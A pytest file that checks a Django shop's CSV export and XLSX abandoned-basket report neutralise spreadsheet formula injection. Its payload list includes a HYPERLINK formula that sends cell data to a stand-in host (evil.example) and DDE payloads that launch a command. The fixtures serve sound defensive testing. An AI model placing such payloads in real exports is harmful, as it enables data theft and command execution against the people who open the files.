"""No formulas in spreadsheets (SPEC AC-3): every text a client or shopper sets comes out of
the CSV export and the XLSX abandon report as plain text, never as a formula."""

import csv
import io
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.utils import timezone

from abandonment.models import Abandonment
from abandonment.services.reports import abandon_report_build, abandon_report_request
from baskets.models import Product
from baskets.services.actors import Actor
from baskets.spreadsheets import cell_text
from tests.support.clients import staff_user
from tests.support.factories import (
    BasketFactory,
    CustomerAccountFactory,
    LineFactory,
    ShopAccountFactory,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]
# A spreadsheet that splits cells on ";" or "," (whatever the file's own separator) starts a
# cell inside these: each formula start there gets its ' too.
SPLIT = {
    "Bob;=1+2;": "Bob;'=1+2;",
    "Ann, @A1,x": "Ann, '@A1,x",
    'Al;"=1+2"': 'Al;"\'=1+2"',
    "-1;+2,-3": "'-1;'+2,'-3",
}
PAYLOADS += list(SPLIT)
IDS += ["semicolon", "comma-space", "semicolon-quote", "every-one"]


def neutralised(value: str) -> str:
    return SPLIT.get(value, "'" + value)


def text(cell) -> str:
    # XLSX stores a carriage return as _x000D_; spreadsheet programs (not openpyxl) decode it.
    return str(cell.value).replace("_x000D_", "\r")


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_cell_text_prefixes_formula_starts(payload):
    """SPEC: AC-3"""
    assert cell_text(payload) == neutralised(payload)
    assert cell_text("Ada Lovelace") == "Ada Lovelace"
    assert cell_text("Lovelace, Ada; 1-2") == "Lovelace, Ada; 1-2"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_csv_export_writes_every_client_text_as_plain_text(client, payload):
    """SPEC: AC-3 BM-2 — shop account name and e-mail, account name, e-mail and ID, product,
    variant and unit of measure IDs: each comes out with a leading ' and nothing else."""
    customer = CustomerAccountFactory(name=payload, email=payload, erp_account_id=payload[:40])
    account = ShopAccountFactory(name=payload, email=payload, customer_account=customer)
    basket = BasketFactory(shop_account=account, customer_account=customer, account_type="customer")
    LineFactory(
        basket=basket,
        product_id=payload[:40],
        variant_id=payload[:40],
        unit_of_measure_id=payload[:10],
    )
    client.force_login(staff_user("System administrator"))
    response = client.get("/admin/baskets/basket/export/")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 2
    texts = dict(zip(rows[0], rows[1], strict=True))
    expected = {
        "Shop account name": payload,
        "Shop account e-mail": payload,
        "Account name": payload,
        "Account e-mail": payload,
        "Account ID": payload[:40],
        "Product ID": payload[:40],
        "Variant ID": payload[:40],
        "Unit of measure ID": payload[:10],
    }
    assert {header: texts[header] for header in expected} == {
        header: neutralised(value) for header, value in expected.items()
    }


# The lead list's columns holding text a shopper or client set (AB-3): each is read by its
# header, wherever the layout puts it.
LEAD_TEXTS = (
    "Name",
    "E-mail",
    "Phone",
    "Billing address",
    "Product ID",
    "Product name",
    "Variant ID",
    "Coupon",
)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_xlsx_report_writes_every_client_text_as_plain_text_on_every_sheet(payload, tmp_path):
    """SPEC: AC-3 AB-3 — the Abandonments (lead list) and Summary sheets hold strings, no
    formula; the report is a System administrator's, so the personal columns are filled."""
    at = timezone.make_aware(datetime(2026, 3, 1, 10))
    Product.objects.create(id=payload[:40], name=payload)
    Abandonment.objects.create(
        basket_guid="3f2c8a4e-5b1d-4c3e-9a7f-0d1e2f3a4b5c",
        captured_at=at,
        last_activity_at=at - timedelta(hours=1),
        shop_account_email=payload,
        name=payload,
        email=payload,
        payment_address={"street": payload, "phone": payload},
        coupon_codes=[payload],
        total="30.00",
        currency="EUR",
        lines=[
            {"product_id": payload[:40], "variant_id": payload, "quantity": 1, "unit_price": "1"}
        ],
    )
    report = abandon_report_request(
        actor=Actor.staff(staff_user("System administrator")),
        date_from=date(2026, 3, 1),
        date_to=date(2026, 3, 1),
    )
    built = abandon_report_build(report_id=report.pk)
    workbook = openpyxl.load_workbook(built.file.path)
    header, *data = workbook["Abandonments"].iter_rows()
    assert len(data) == 1
    cells = dict(zip((cell.value for cell in header), data[0], strict=True))
    expected = {name: payload for name in LEAD_TEXTS} | {"Product ID": payload[:40]}
    assert {name: (text(cells[name]), cells[name].data_type) for name in LEAD_TEXTS} == {
        name: (neutralised(value), "s") for name, value in expected.items()
    }
    summary = [
        row for row in workbook["Summary"].iter_rows() if text(row[0]) == neutralised(payload[:40])
    ]
    assert len(summary) == 1
    assert [(text(cell), cell.data_type) for cell in summary[0][:2]] == [
        (neutralised(payload[:40]), "s"),
        (neutralised(payload), "s"),
    ]
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
